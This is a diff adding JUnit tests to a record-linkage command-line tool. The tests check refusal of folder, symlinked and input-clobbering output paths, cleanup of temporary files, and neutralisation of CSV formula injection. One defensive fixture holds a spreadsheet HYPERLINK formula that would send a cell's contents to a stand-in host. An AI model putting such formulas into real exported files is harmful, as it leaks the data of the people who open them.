@@ -334,6 +334,154 @@ class LinkCommandTests {
     assertThat(Files.readString(pairs)).isEqualTo("earlier results\n");
   }
 
+  @Test
+  void anOutputThatIsAFolderIsRefusedAndLeavesNoTemporaryFiles() throws IOException {
+    Path input = write("people.csv", PEOPLE);
+    Path config = write("columns.yml", HEADER_CONFIG);
+    Path folder = Files.createDirectory(dir.resolve("results"));
+    Files.writeString(folder.resolve("kept.txt"), "kept\n");
+
+    for (String option : List.of("--out", "--clusters")) {
+      err.reset();
+      Path pairs = option.equals("--out") ? folder : dir.resolve("pairs.csv");
+      Path clusters = option.equals("--out") ? dir.resolve("clusters.csv") : folder;
+      int status =
+          run("--input", input, "--config", config, "--out", pairs, "--clusters", clusters);
+
+      assertThat(status).as(option).isEqualTo(LinkCommand.USAGE);
+      assertThat(err.toString()).contains(option + " " + folder + " is a folder");
+      assertThat(folder).isDirectory();
+      assertThat(Files.readString(folder.resolve("kept.txt"))).isEqualTo("kept\n");
+      try (Stream<Path> inFolder = Files.list(folder)) {
+        assertThat(inFolder).hasSize(1);
+      }
+      assertThat(dir.resolve("pairs.csv")).doesNotExist();
+      assertThat(dir.resolve("clusters.csv")).doesNotExist();
+      assertNoTempFiles();
+    }
+  }
+
+  @Test
+  void temporaryFilesAreRemovedWhenTheSecondOutputCannotBeCreated() throws IOException {
+    Path input = write("people.csv", PEOPLE);
+    Path config = write("columns.yml", HEADER_CONFIG);
+    Path pairs = dir.resolve("pairs.csv");
+    Path clusters = dir.resolve("no-such-folder").resolve("clusters.csv");
+
+    int status = run("--input", input, "--config", config, "--out", pairs, "--clusters", clusters);
+
+    assertThat(status).isEqualTo(LinkCommand.BAD_INPUT);
+    assertThat(err.toString()).contains("could not write output");
+    assertThat(pairs).doesNotExist();
+    assertNoTempFiles();
+  }
+
+  @Test
+  void anOutputThatIsOrResolvesToAnInputIsRefusedAndTheInputKept() throws IOException {
+    Path input = write("people.csv", PEOPLE);
+    Path config = write("columns.yml", HEADER_CONFIG);
+    Path link = Files.createSymbolicLink(dir.resolve("latest.csv"), input.getFileName());
+    Path sameByAnotherPath = dir.resolve("sub").resolve("..").resolve("people.csv");
+    Files.createDirectory(dir.resolve("sub"));
+
+    List<Object[]> attempts =
+        List.of(
+            new Object[] {"--out", input, "--input"},
+            new Object[] {"--out", sameByAnotherPath, "--input"},
+            new Object[] {"--out", link, "--input"},
+            new Object[] {"--out", config, "--config"},
+            new Object[] {"--clusters", input, "--input"});
+    for (Object[] attempt : attempts) {
+      err.reset();
+      Path pairs = attempt[0].equals("--out") ? (Path) attempt[1] : dir.resolve("pairs.csv");
+      List<Object> args =
+          new java.util.ArrayList<>(List.of("--input", input, "--config", config, "--out", pairs));
+      if (attempt[0].equals("--clusters")) {
+        args.addAll(List.of("--clusters", attempt[1]));
+      }
+      int status = run(args.toArray());
+
+      assertThat(status).as(attempt[0] + " " + attempt[1]).isEqualTo(LinkCommand.USAGE);
+      assertThat(err.toString())
+          .as(attempt[0] + " " + attempt[1])
+          .contains(attempt[0] + " " + attempt[1] + " is the same file as " + attempt[2]);
+    }
+    assertThat(Files.readString(input)).isEqualTo(PEOPLE);
+    assertThat(Files.readString(config)).isEqualTo(HEADER_CONFIG);
+    assertThat(dir.resolve("pairs.csv")).doesNotExist();
+    assertNoTempFiles();
+  }
+
+  @Test
+  void pairsAndClustersMayNotBeTheSameFile() throws IOException {
+    Path input = write("people.csv", PEOPLE);
+    Path config = write("columns.yml", HEADER_CONFIG);
+    Path out = dir.resolve("out.csv");
+
+    int status = run("--input", input, "--config", config, "--out", out, "--clusters", out);
+
+    assertThat(status).isEqualTo(LinkCommand.USAGE);
+    assertThat(err.toString()).contains("--clusters " + out + " is the same file as --out");
+    assertThat(out).doesNotExist();
+  }
+
+  @Test
+  void idsThatASpreadsheetWouldRunAsFormulasAreNeutralised() throws Exception {
+    // (ids are read trimmed, so a leading tab or carriage return is shown in CsvWritingTests)
+    String risky =
+        """
+        id,first,last,dob,postcode
+        "=HYPERLINK(""http://x.example/?""&A1,""open"")",Robert,Allen,2010-06-24,LS6 2QT
+        +44123,Bob,Allen,2010-06-24,LS6 2QT
+        -7,Robert,Allen,2010-06-24,LS6 2QT
+        @SUM(A1),Rob,Allen,2010-06-24,LS6 2QT
+        plain-1,Robert,Allen,2010-06-24,LS6 2QT
+        """;
+    Path input = write("risky.csv", risky);
+    Path config = write("columns.yml", HEADER_CONFIG);
+    Path pairs = dir.resolve("pairs.csv");
+    Path clusters = dir.resolve("clusters.csv");
+
+    int status =
+        run(
+            "--input",
+            input,
+            "--config",
+            config,
+            "--out",
+            pairs,
+            "--clusters",
+            clusters,
+            "--threshold",
+            "0.01");
+
+    assertThat(status).as(err.toString()).isZero();
+    List<String> ids = new java.util.ArrayList<>();
+    try (CsvReader csv = new CsvReader(clusters, 1000)) {
+      for (List<String> row = csv.next(); row != null; row = csv.next()) {
+        ids.add(row.get(0));
+      }
+    }
+    assertThat(ids)
+        .containsExactlyInAnyOrder(
+            "record_id",
+            "'=HYPERLINK(\"http://x.example/?\"&A1,\"open\")",
+            "'+44123",
+            "'-7",
+            "'@SUM(A1)",
+            "plain-1");
+    List<String> pairIds = new java.util.ArrayList<>();
+    try (CsvReader csv = new CsvReader(pairs, 1000)) {
+      csv.next();
+      for (List<String> row = csv.next(); row != null; row = csv.next()) {
+        pairIds.addAll(row.subList(0, 2));
+      }
+    }
+    assertThat(pairIds).isNotEmpty().allMatch(id -> id.startsWith("'") || id.equals("plain-1"));
+    String written = Files.readString(pairs);
+    assertThat(written).contains("\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"open\"\")\"");
+  }
+
   private void assertRefused(Path input, Path config, String message) throws IOException {
     err.reset();
     Path pairs = dir.resolve("refused-pairs.csv");
